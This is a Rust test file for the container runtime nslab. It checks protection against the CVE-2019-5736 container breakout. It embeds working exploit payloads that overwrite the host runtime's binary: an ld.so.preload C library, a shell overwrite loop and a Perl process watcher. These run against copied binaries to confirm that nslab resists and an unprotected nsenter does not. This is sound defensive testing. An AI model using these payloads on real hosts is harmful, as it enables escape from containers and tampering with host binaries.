//! Attacks on the host's nslab binary from inside a node (CVE-2019-5736), each also on a runner
//! without protection, nsenter(1), to show that it works there. The victims are copies.

use std::fs;
use std::io::{BufRead as _, BufReader, Write as _};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};

use nslab::node::{InitEvent, InitSpec, Process, RestartPolicy};

use super::harness::{Image, NSLAB, Node, options, plain, run, until};
use super::install::install;

/// A library that every program of the image loads. In the runner it opens the runner's binary and
/// leaves a shell behind that overwrites it as soon as nobody executes it.
const EVIL: &str = r#"
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
__attribute__((constructor)) static void evil(void) {
    char exe[4096] = {0}, number[16];
    readlink("/proc/self/exe", exe, sizeof exe - 1);
    if (!strstr(exe, "victim"))
        return;
    close(open("/loaded", O_CREAT | O_WRONLY, 0600));
    sprintf(number, "%d", open("/proc/self/exe", O_PATH));
    execl("/bin/sh", "sh", "/attack", number, NULL);
}
"#;

const ATTACK: &str = "(\n\
    i=0\n\
    while [ $i -lt 200 ]; do\n\
        if echo pwned > /proc/self/fd/$1; then echo > /overwritten; exit; fi\n\
        i=$((i + 1)); sleep 0.05\n\
    done\n\
) > /dev/null 2>&1 < /dev/null &\n";

/// A copy of a program, to be attacked.
struct Victim {
    _folder: tempfile::TempDir,
    path: PathBuf,
    before: Vec<u8>,
}

impl Victim {
    fn new(of: &str) -> Self {
        let folder = tempfile::tempdir().unwrap();
        let path = folder.path().join("victim");
        install(Path::new(of), &path);
        let before = fs::read(&path).unwrap();
        Self {
            _folder: folder,
            path,
            before,
        }
    }

    fn is_whole(&self) -> bool {
        fs::read(&self.path).unwrap() == self.before
    }
}

fn nsenter() -> Victim {
    Victim::new(run(Command::new("sh").args(["-c", "command -v nsenter"])).trim())
}

/// Enters a node the naive way.
fn enter(victim: &Victim, node: &Node, argv: &[&str]) -> Child {
    Command::new(&victim.path)
        .args(["-t", &node.target.pid.to_string(), "-m", "-p", "-n", "--"])
        .args(argv)
        .stdin(Stdio::null())
        .spawn()
        .unwrap()
}

/// An image that attacks whoever executes its programs.
fn evil() -> Image {
    // With the libraries of both runners.
    let image = Image::new(&["sh", "sleep", "cat", "nsenter", NSLAB]);
    let source = tempfile::tempdir().unwrap();
    let file = source.path().join("evil.c");
    fs::write(&file, EVIL).unwrap();
    let library = image.path("base/evil.so");
    run(Command::new("cc")
        .args(["-shared", "-fPIC", "-w", "-o"])
        .args([&library, &file]));
    image.write("base", "etc/ld.so.preload", "/evil.so\n");
    image.write("base", "attack", ATTACK);
    image.write("base", "entry", "#!/proc/self/exe\n");
    run(Command::new("chmod")
        .arg("755")
        .arg(image.path("base/entry")));
    std::os::unix::fs::symlink("/proc/self/exe", image.path("base/link")).unwrap();
    image
}

fn exists(image: &Image, name: &str) -> bool {
    image.path("upper").join(name).exists()
}

#[test]
fn the_classic_attack_overwrites_a_runner_without_protection() {
    let (image, victim) = (evil(), nsenter());
    let rootfs = image.rootfs();
    let node = Node::up(&InitSpec {
        rootfs,
        ..plain("evil")
    });
    enter(&victim, &node, &["/entry"]).wait().unwrap();
    assert!(exists(&image, "loaded"));
    until("the victim's end", || exists(&image, "overwritten"));
    assert!(!victim.is_whole());
}

#[test]
fn a_program_that_is_the_runners_own_binary_gets_none_of_it() {
    let victim = Victim::new(NSLAB);
    for argv in ["/entry", "/link", "/proc/self/exe", "/proc/thread-self/exe"] {
        let process = Process {
            argv: vec![argv.to_owned()],
            restart: RestartPolicy::No,
        };
        // As a main process and by `exec`, with the strongest node that makes sense.
        for extra in [&[][..], &["CAP_SYS_PTRACE"]] {
            let image = evil();
            let mut spec = InitSpec {
                rootfs: image.rootfs(),
                process: Some(process.clone()),
                seccomp: extra.is_empty(),
                ..plain("evil")
            };
            spec.capabilities
                .extend(extra.iter().map(|&name| name.to_owned()));
            let mut node = Node::spawn_by(&victim.path, &spec, None);
            assert_eq!(node.early, [InitEvent::Up]);
            assert!(matches!(node.event(), Some(InitEvent::Started { .. })));
            let code = Some(127);
            match node.event() {
                Some(InitEvent::Exited { code: ended, .. }) => assert_eq!(ended, code, "{argv}"),
                other => panic!("{other:?}"),
            }
            let mut command = node.command_by(&victim.path, &options(&[argv]));
            let output = command.stdin(Stdio::null()).output().unwrap();
            assert_eq!(output.status.code(), code, "{argv}: {output:?}");
            drop(node);
            assert!(
                !exists(&image, "loaded"),
                "{argv} ran nslab with the image's library"
            );
        }
    }
    assert!(victim.is_whole());
}

/// Stops every process of the node that appears, and attacks it before it can go on.
const WATCHER: &str = r#"
$| = 1;
sub overwrite { return sysopen(my $file, $_[0], 01 | 01000) ? "overwritten" : $! + 0 }
print "init ", overwrite("/proc/1/exe"), "\n";
my ($next, $seen, $denied, @held, %rights) = ($$ + 1, 0, 0);
my $until = time + 120;
while (time < $until && !-e "/tmp/stop") {
    for my $pid ($next .. $next + 2) {
        next unless kill "STOP", $pid;
        my $exe = readlink("/proc/$pid/exe");
        # A mount that is a file and attached nowhere has no name.
        $exe = "victim" if defined $exe && $exe eq "/";
        if (!defined $exe) {
            $denied++ if $!{EACCES};
        } elsif ($exe =~ /victim/) {
            sysopen(my $file, "/proc/$pid/exe", 010000000) or die "O_PATH: $!";
            push @held, $file if @held < 100;
            my $early = overwrite("/proc/$pid/exe");
            print "seen $early\n" unless $seen++;
        }
        if (!defined $exe || $exe =~ /victim/) {
            if (open(my $status, "<", "/proc/$pid/status")) {
                for (<$status>) { $rights{$1} = 1 if /^CapPrm:\s*(\S+)/ }
            }
        }
        print "denied\n" if $denied == 1 && $denied++;
        kill "CONT", $pid;
        $next = $pid + 1;
    }
}
my %late;
$late{overwrite("/proc/self/fd/" . fileno($_))} = 1 for @held;
print "late @{[sort keys %late]}\nrights @{[sort keys %rights]}\n";
"#;

/// A node in which the watcher runs, and its output.
struct Watched {
    node: Node,
    watcher: Child,
    lines: std::io::Lines<BufReader<std::process::ChildStdout>>,
}

impl Watched {
    fn new(capabilities: &[&str]) -> Self {
        let mut spec = plain("watched");
        spec.capabilities
            .extend(capabilities.iter().map(|&name| name.to_owned()));
        let node = Node::up(&spec);
        let mut watcher = node
            .command(&options(&["perl", "-MErrno", "-"]))
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .spawn()
            .unwrap();
        let mut stdin = watcher.stdin.take().unwrap();
        stdin.write_all(WATCHER.as_bytes()).unwrap();
        drop(stdin);
        let lines = BufReader::new(watcher.stdout.take().unwrap()).lines();
        Self {
            node,
            watcher,
            lines,
        }
    }

    fn line(&mut self) -> String {
        self.lines.next().expect("a line").unwrap()
    }

    /// Enters again and again until the watcher has caught `what`; the line that tells.
    fn caught(&mut self, mut enter: impl FnMut(&Node)) -> String {
        let (line, told) = std::sync::mpsc::channel();
        let lines = &mut self.lines;
        let node = &self.node;
        std::thread::scope(|scope| {
            scope.spawn(move || line.send(lines.next().expect("a line").unwrap()));
            for _ in 0..2000 {
                enter(node);
                if let Ok(line) = told.try_recv() {
                    return line;
                }
            }
            panic!("the watcher caught nobody: this test shows nothing");
        })
    }

    /// Lets the watcher try what it holds; its last two lines.
    fn stop(mut self) -> (String, String) {
        assert!(self.node.exec(&["touch", "/tmp/stop"]).status.success());
        let last = (self.line(), self.line());
        assert!(self.watcher.wait().unwrap().success());
        last
    }
}

fn enters(victim: &Path) -> impl FnMut(&Node) {
    move |node| {
        let mut command = node.command_by(victim, &options(&["true"]));
        assert!(command.status().unwrap().success());
    }
}

#[test]
fn whoever_may_trace_finds_a_read_only_binary_and_no_rights_of_the_host() {
    let victim = Victim::new(NSLAB);
    let mut watched = Watched::new(&["CAP_SYS_PTRACE"]);
    // EROFS
    assert_eq!(watched.line(), "init 30");
    assert_eq!(watched.caught(enters(&victim.path)), "seen 30");
    let (late, rights) = watched.stop();
    assert_eq!(late, "late 30");
    // Those of the node, CAP_SYS_PTRACE among them.
    assert_eq!(rights, "rights 00000000a80c25fb");
    assert!(victim.is_whole());
}

#[test]
fn whoever_may_not_trace_does_not_even_see_the_binary() {
    let victim = Victim::new(NSLAB);
    let mut watched = Watched::new(&[]);
    // EACCES
    assert_eq!(watched.line(), "init 13");
    assert_eq!(watched.caught(enters(&victim.path)), "denied");
    let (late, rights) = watched.stop();
    assert_eq!(late, "late ");
    assert_eq!(rights, "rights 00000000a80425fb");
    assert!(victim.is_whole());
}

#[test]
fn the_same_watcher_overwrites_a_runner_without_protection() {
    let victim = nsenter();
    let mut watched = Watched::new(&["CAP_SYS_PTRACE"]);
    assert_eq!(watched.line(), "init 30");
    // ETXTBSY: it is being executed.
    let seen = watched.caught(|node| {
        let mut child = enter(&victim, node, &["true"]);
        // It stops itself when its child is stopped.
        let pid = nix::unistd::Pid::from_raw(child.id().cast_signed());
        until("the runner's end", || {
            let _ = nix::sys::signal::kill(pid, nix::sys::signal::Signal::SIGCONT);
            child.try_wait().unwrap().is_some()
        });
    });
    assert_eq!(seen, "seen 26");
    let (late, _) = watched.stop();
    // The command that stops the watcher is protected.
    assert!(late.ends_with(" overwritten"), "{late}");
    assert!(!victim.is_whole());
}
